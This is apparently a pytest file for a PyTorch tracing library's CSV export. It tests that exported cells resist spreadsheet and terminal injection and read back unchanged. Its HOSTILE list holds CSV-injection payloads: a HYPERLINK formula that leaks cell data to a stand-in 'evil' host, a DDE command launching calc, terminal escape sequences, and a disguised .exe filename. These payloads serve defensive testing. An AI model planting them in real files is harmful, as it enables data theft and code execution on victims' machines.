"""CSV that neither a spreadsheet nor a terminal runs, and that reads back equal."""

from __future__ import annotations

import csv as stdlib
from dataclasses import replace

import pytest
import samples
import torch
from hypothesis import given
from hypothesis import strategies as st
from torch import nn

import shapetrace
from shapetrace.errors import ReportError
from shapetrace.views.cells import guarded, unguarded
from shapetrace.views.columns import Context, Group
from shapetrace.views.columns.measures import function_cost
from shapetrace.views.csv import csv, read_csv
from shapetrace.views.frame import frame

HOSTILE = [
    '=HYPERLINK("http://evil/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'=1+1",
    "\x1b]0;owned\x07\x1b[2J",
    "＝1+1",
    "C:\\x41\\n",
    "\\x1b and \x1b",
    'quo"te, comma',
    "0",
    "NA",
    "‮gpj.exe",
]


@given(st.text() | st.sampled_from(HOSTILE))
def test_a_guarded_text_is_no_formula_has_no_controls_and_comes_back(text):
    cell = guarded(text)
    assert unguarded(cell) == text
    assert not cell.startswith(tuple("=+-@\t\r\n＝＋－＠"))
    assert not any(ord(c) < 32 or 127 <= ord(c) < 160 for c in cell)


@pytest.mark.parametrize("text", ["layer.0", "C:\\data", "a-b", "2x3;4", "größer", "1"])
def test_an_ordinary_text_is_written_as_it_is(text):
    assert guarded(text) == text


def test_numbers_are_not_guarded():
    assert guarded(-3) == -3 and guarded(None) is None


def renamed(name):
    rec = samples.small_cnn()
    calls = (rec.calls[0], replace(rec.calls[1], name=name, type=name), *rec.calls[2:])
    modules = {**rec.modules, name: next(iter(rec.modules.values()))}
    return replace(rec, calls=calls, modules=modules)


@pytest.mark.parametrize("name", HOSTILE)
def test_a_report_with_a_hostile_name_is_harmless_and_reads_back_equal(name, tmp_path):
    rec, path = renamed(name), tmp_path / "report.csv"
    csv(rec, (), path)
    with open(path, newline="", encoding="utf-8") as file:
        for row in stdlib.reader(file):
            for cell in row:
                assert cell[:1] not in tuple("=+@\t\r")
                assert cell[:1] != "-" or float(cell) < 0
    assert "\x1b" not in path.read_text() and "\a" not in path.read_text()
    back, made = read_csv(path), frame(rec)
    assert list(back.columns) == list(made.columns)
    assert list(back["name"]) == [call.name for call in rec.calls]
    for column in made:
        if column.endswith(("shapes", "dtypes")):
            continue
        assert back[column].dtype == made[column].dtype, column
        missing = back[column].isna()
        assert list(missing) == list(made[column].isna()), column
        assert list(back[column][~missing]) == list(made[column][~missing]), column


def test_measures_that_only_some_traces_have_come_back_as_numbers(tmp_path):
    model = nn.Sequential(nn.Linear(4, 3), nn.ReLU())
    with shapetrace.trace(model, memory=True, backward=True) as t:
        model(torch.ones(2, 4)).sum().backward()
    t.to_csv(tmp_path / "report.csv")
    back, made = read_csv(tmp_path / "report.csv"), t.to_dataframe()
    more = [c for c in made if c not in frame(samples.empty())]
    assert more
    for column in more:
        assert back[column].astype(made[column].dtype).equals(made[column])


@pytest.mark.parametrize("text", ["", '"', "call,name\n1,2,3,4\n", "call,name\nx,y\n"])
def test_what_is_no_report_is_refused_by_name(text, tmp_path):
    path = tmp_path / "other.csv"
    path.write_text(text)
    with pytest.raises(ReportError, match=r"other\.csv.*t\.to_csv\(path\)"):
        read_csv(path)


@pytest.mark.filterwarnings("ignore:Using a target size")
def test_the_row_of_a_function_behind_those_of_modules_has_its_own_costs(tmp_path):
    """One row more than there are calls: it had the costs of another, or none."""
    layer = nn.Linear(4, 3)
    with pytest.warns(shapetrace.ShapeTraceWarning), shapetrace.trace(layer) as t:
        y = layer(torch.ones(2, 4)) @ torch.ones(3, 5)  # 2·2·3·5 = 60 FLOPs
        nn.functional.mse_loss(y.sum(1), torch.ones(2, 1))
    t.to_csv(tmp_path / "report.csv", costs=True)
    read = read_csv(tmp_path / "report.csv")
    assert list(read["flops"]) == [2 * 2 * 4 * 3, 0]
    assert list(read["type"])[0] == "Linear" and len(read) == 2
    matmul = next(f for f in t.functions if f.name == "matmul")
    rows = [Group((t.calls[0],), "call"), Group((matmul,), "function")]
    context = Context(t.recording, lambda: t.costs)
    assert function_cost("function_flops", "flops")(rows, context) == [48, 60]


def test_the_names_of_what_is_not_counted_come_back(tmp_path):
    class Own(nn.Module):
        def forward(self, x):
            return torch.vmap(torch.sin)(x)

    with shapetrace.trace(own := Own()) as t:
        own(torch.ones(2, 3))
    t.to_csv(tmp_path / "report.csv", costs=True)
    read = read_csv(tmp_path / "report.csv")
    assert list(read["uncounted"]) == [", ".join(t.costs.calls[0].uncounted)] != [""]
